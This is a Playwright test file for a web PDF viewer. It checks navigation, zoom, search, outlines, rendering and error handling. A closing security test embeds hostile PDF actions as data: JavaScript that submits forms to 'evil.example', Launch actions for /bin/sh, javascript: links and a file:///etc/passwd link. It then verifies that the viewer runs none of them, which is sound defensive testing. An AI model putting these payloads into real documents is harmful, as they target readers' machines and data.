import type { Locator, Page } from "@playwright/test";
import { guarded } from "./again.ts";
import { asData, pdfFile } from "./pdf-file.ts";
import { closed, colourAt, colours, embed, expect, findings, opened, test } from "./zoo.ts";

// The first page of a PDF wants the library and its worker, half a megabyte, and several tests share a processor.
test.describe.configure({ timeout: 120_000 });
const SOON = { timeout: 30_000 };

const BOOK = asData(
  "application/pdf",
  pdfFile({
    pages: [
      "The lighthouse stands here",
      "Second page of tides",
      "The harbour at the pier",
      "Tides again, and the end",
    ],
    outline: [
      ["Beginning", 1],
      ["The pier", 3],
    ],
    links: [4, "/S/URI/URI(https://example.org/sea)"],
  }),
);

const number = (viewer: Locator): Locator => viewer.getByRole("textbox", { name: "Page number" });
const leaf = (viewer: Locator, n: number): Locator => viewer.getByRole("group", { name: `Page ${n}`, exact: true });
const canvas = (viewer: Locator, n: number): Locator => leaf(viewer, n).locator("canvas");
/** What is marked, as text. */
const marked = (page: Page, name: string): Promise<string[]> =>
  page.evaluate(
    (name) =>
      [...(CSS.highlights.get(name) ?? [])].map(({ startContainer, startOffset, endOffset }) =>
        (startContainer.textContent ?? "").slice(startOffset, endOffset),
      ),
    name,
  );

test("a PDF opens from its thumbnail: pages, their text, the next page by key", async ({ page, zoo }) => {
  const viewer = await opened(page, zoo, BOOK, "pdf");
  await expect(canvas(viewer, 1)).toBeVisible(SOON);
  // The square below the words is red, the rest white.
  expect(await colourAt(page, canvas(viewer, 1), 172 / 612, 182 / 792)).toEqual([204, 26, 26]);
  expect(await colourAt(page, canvas(viewer, 1), 0.9, 0.5)).toEqual([255, 255, 255]);
  await expect(leaf(viewer, 1)).toContainText("The lighthouse stands here");
  await expect(viewer.getByText("of 4")).toBeVisible();
  await page.keyboard.press("PageDown");
  await expect(number(viewer)).toHaveValue("2");
  await expect(leaf(viewer, 2)).toContainText("Second page of tides", SOON);
  await closed(page);
});

test("keys and the number lead to pages, the size follows + and -, and all of it turns", { tag: "@full" }, async ({
  page,
  zoo,
}) => {
  const viewer = await opened(page, zoo, BOOK, "pdf", { attributes: 'start="page=2"' });
  await expect(canvas(viewer, 2)).toBeVisible(SOON);
  await expect(number(viewer)).toHaveValue("2");
  await page.keyboard.press("End");
  await expect(number(viewer)).toHaveValue("4");
  await page.keyboard.press("Home");
  await expect(number(viewer)).toHaveValue("1");
  await number(viewer).fill("3");
  await page.keyboard.press("Enter");
  await expect(leaf(viewer, 3)).toContainText("The harbour at the pier", SOON);
  await viewer.getByRole("region", { name: "the file" }).focus();

  const width = async (): Promise<number> => (await leaf(viewer, 3).boundingBox())?.width ?? 0;
  const before = await width();
  await page.keyboard.press("+");
  await expect.poll(width).toBeGreaterThan(before * 1.05);
  await page.keyboard.press("-");
  await page.keyboard.press("-");
  await expect.poll(width).toBeLessThan(before);
  await viewer.getByRole("button", { name: "Fit the width" }).click();
  const window = (await viewer.getByRole("region", { name: "the file" }).boundingBox())?.width ?? 0;
  await expect.poll(width).toBeGreaterThan(window - 60);
  // What is drawn is as sharp as the screen: a canvas pixel for each of its pixels.
  await expect
    .poll(async () => {
      const box = await canvas(viewer, 3).boundingBox();
      const pixels = await canvas(viewer, 3).evaluate((one) => (one as HTMLCanvasElement).width);
      return Math.abs(pixels - (box?.width ?? 0)) < 2;
    }, SOON)
    .toBe(true);
  await viewer.getByRole("button", { name: "Rotate" }).click();
  await expect
    .poll(async () => {
      const box = await leaf(viewer, 3).boundingBox();
      return (box?.width ?? 0) / (box?.height ?? 1);
    }, SOON)
    .toBeCloseTo(792 / 612, 1);
  await expect(number(viewer)).toHaveValue("3");
  await closed(page);
});

test("words are found without regard to case, counted, marked and gone through", { tag: "@full" }, async ({
  page,
  zoo,
}) => {
  const viewer = await opened(page, zoo, BOOK, "pdf");
  await expect(leaf(viewer, 1)).toContainText("lighthouse", SOON);
  await page.keyboard.press("Control+f");
  await page.keyboard.type("TIDES");
  await expect(viewer.getByText("1 of 2")).toBeVisible(SOON);
  await expect(number(viewer)).toHaveValue("2");
  await expect.poll(() => marked(page, "omnic-pdf-now"), SOON).toEqual(["tides"]);
  await page.keyboard.press("Enter");
  await expect(viewer.getByText("2 of 2")).toBeVisible();
  await expect(number(viewer)).toHaveValue("4");
  await expect.poll(() => marked(page, "omnic-pdf-now"), SOON).toEqual(["Tides"]);
  await page.keyboard.press("Shift+Enter");
  await expect(viewer.getByText("1 of 2")).toBeVisible();
  await page.getByRole("searchbox", { name: "Search" }).fill("zeppelin");
  await expect(viewer.getByText("Not found")).toBeVisible(SOON);
  expect(await findings(page)).toEqual([]);
  await page.keyboard.press("Escape");
  await expect(viewer.getByRole("searchbox")).toBeHidden();
  expect(await marked(page, "omnic-pdf-found")).toEqual([]);
  await closed(page);
});

test("text can be selected; the outline and the links lead somewhere", { tag: "@full" }, async ({ page, zoo }) => {
  const viewer = await opened(page, zoo, BOOK, "pdf");
  const line = leaf(viewer, 1).getByText("The lighthouse stands here");
  await expect(line).toBeVisible(SOON);
  const box = await line.boundingBox();
  // The text lies where it is drawn: 72 points from the left, its line 700 from the foot.
  const sheet = await leaf(viewer, 1).boundingBox();
  expect(((box?.x ?? 0) - (sheet?.x ?? 0)) / (sheet?.width ?? 1)).toBeCloseTo(72 / 612, 2);
  await page.mouse.move((box?.x ?? 0) + 1, (box?.y ?? 0) + 8);
  await page.mouse.down();
  await page.mouse.move((box?.x ?? 0) + (box?.width ?? 0) - 1, (box?.y ?? 0) + 8, { steps: 4 });
  await page.mouse.up();
  expect(await page.evaluate(() => String(getSelection()))).toContain("lighthouse stands");

  const out = leaf(viewer, 1).getByRole("link", { name: "https://example.org/sea" });
  await expect(out).toHaveAttribute("rel", "noopener noreferrer");
  await expect(out).toHaveAttribute("target", "_blank");
  await leaf(viewer, 1).getByRole("button", { name: "Page 4" }).click();
  await expect(number(viewer)).toHaveValue("4");

  await viewer.getByRole("button", { name: "Outline" }).click();
  await expect(viewer.getByRole("treeitem", { name: "Beginning" })).toBeFocused();
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  await expect(number(viewer)).toHaveValue("3");
  await closed(page);
});

test("of a long document only what is near has pixels", { tag: "@full" }, async ({ page, zoo }) => {
  const pages = Array.from({ length: 120 }, (_, at) => `Leaf ${at + 1}`);
  const viewer = await opened(page, zoo, asData("application/pdf", pdfFile({ pages })), "pdf");
  await expect(canvas(viewer, 1)).toBeVisible(SOON);
  for (const n of [30, 60, 90, 120]) {
    await number(viewer).fill(String(n));
    await page.keyboard.press("Enter");
    await expect(leaf(viewer, n)).toContainText(`Leaf ${n}`, SOON);
  }
  expect(await viewer.locator("canvas").count()).toBeLessThan(6);
  await expect(canvas(viewer, 1)).toHaveCount(0);
  await closed(page);
});

test("a page that is far wider than the others leaves them in sight, also from right to left", async ({
  page,
  zoo,
}) => {
  const file = pdfFile({
    pages: ["One", "Two", "Three"],
    sizes: [
      [612, 792],
      [9000, 792],
      [612, 792],
    ],
  });
  for (const lang of ["en", "ar"]) {
    await embed(page, zoo, `<omnic-view url="${asData("application/pdf", file)}" alt="the file"></omnic-view>`, lang);
    await page.getByRole("button").click();
    const viewer = page.getByRole("dialog").locator(".viewer.pdf");
    await expect(viewer.locator(".textLayer").getByText("One")).toBeInViewport({ timeout: 60_000 });
    const pages = viewer.locator(".pages");
    await pages.focus();
    await page.keyboard.press("PageDown");
    await expect.poll(() => pages.evaluate((one) => one.scrollWidth)).toBeGreaterThan(6000); // the second is known
    await page.keyboard.press("End");
    await expect(viewer.locator(".textLayer").getByText("Three")).toBeInViewport({ timeout: 30_000 });
    await page.keyboard.press("Home");
    await expect(viewer.locator(".textLayer").getByText("One")).toBeInViewport({ timeout: 30_000 });
  }
});

test("the server's picture of the page is there while the library is not", { tag: "@full" }, async ({ page, zoo }) => {
  let let_through = (): void => {};
  const held = new Promise<void>((done) => {
    let_through = done;
  });
  await page.route(/pdf\.worker/, async (route) => {
    await held;
    await route.continue();
  });
  const viewer = await opened(page, zoo, BOOK, "pdf");
  const picture = viewer.getByRole("img", { name: "the file, Page 1" });
  await expect(picture).toBeVisible(SOON);
  expect(await colourAt(page, picture, 172 / 612, 182 / 792)).toEqual([204, 26, 26]);
  let_through();
  await expect(canvas(viewer, 1)).toBeVisible(SOON);
  await expect(picture).toHaveCount(0);
  await closed(page);
});

test("an office document, a table, slides and a book have pages", { tag: "@full" }, async ({ page, zoo }) => {
  test.setTimeout(500_000);
  for (const [name, tab, words] of [
    ["document/par-alignment.docx", "", /\w/],
    ["table/universal-content.xlsb", "Pages", /\w/],
    ["document/minimal.pptx", "", null],
    ["document/a.epub", "", /\w/],
  ] as const) {
    const viewer = await opened(page, zoo, name, "pdf", { tab, patience: 90_000 });
    await expect(canvas(viewer, 1), name).toBeVisible({ timeout: 60_000 });
    if (words) {
      await expect(leaf(viewer, 1), name).toContainText(words, SOON);
      expect(await colours(page, canvas(viewer, 1)), name).toBeGreaterThan(2);
    }
    await closed(page);
  }
});

const RUNS = {
  "at once":
    "/OpenAction<</S/JavaScript/JS(window.pwned=1;app.alert\\(1\\);this.submitForm\\('https://evil.example/'\\))>>",
  "a program": "/OpenAction<</S/Launch/F(/bin/sh)>>/AA<</WC<</S/JavaScript/JS(window.pwned=1)>>>>",
  "by name": "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(window.pwned=1)>>]>>>>",
};

test("a PDF that runs something runs nothing, and leads nowhere by itself", { tag: "@full" }, async ({ page, zoo }) => {
  const harmless = guarded(page, zoo.url);
  const links = [
    "/S/JavaScript/JS(window.pwned=1)",
    "/S/Launch/F(/bin/sh)",
    "/S/URI/URI(javascript:window.pwned=1)",
    "/S/URI/URI(file:///etc/passwd)",
    "/S/SubmitForm/F(https://evil.example/)",
    "/S/URI/URI(https://example.org/fine)",
  ];
  for (const [what, catalogue] of Object.entries(RUNS)) {
    const file = pdfFile({ pages: ["Harmless words"], links, catalogue });
    const viewer = await opened(page, zoo, asData("application/pdf", file), "pdf");
    await expect(leaf(viewer, 1), what).toContainText("Harmless words", SOON);
    expect(
      await leaf(viewer, 1)
        .locator(".links > *")
        .evaluateAll((all) => all.map((one) => one.getAttribute("href"))),
    ).toEqual(["https://example.org/fine"]);
    await harmless();
    await closed(page);
  }
});

test("a broken PDF and one with a password say so", { tag: "@full" }, async ({ page, zoo }) => {
  const broken = await opened(page, zoo, asData("application/pdf", `%PDF-1.7\n${"nothing of use ".repeat(50)}`), "pdf");
  await expect(broken.getByRole("alert")).toHaveText("This PDF is broken: it cannot be read.", SOON);
  await closed(page);

  // Encrypt with a user password: RC4, the key of which nobody knows here.
  const locked = pdfFile({ pages: ["Secret"] }).replace(
    /trailer<<\/Size (\d+)/,
    `trailer<</Encrypt<</Filter/Standard/V 1/R 2/Length 40/P -64/O<${"11".repeat(32)}>/U<${"22".repeat(32)}>>>/ID[<${"33".repeat(16)}><${"33".repeat(16)}>]/Size $1`,
  );
  const shut = await opened(page, zoo, asData("application/pdf", locked), "pdf");
  await expect(shut.getByRole("alert")).toContainText("protected with a password", SOON);
  await closed(page);
});
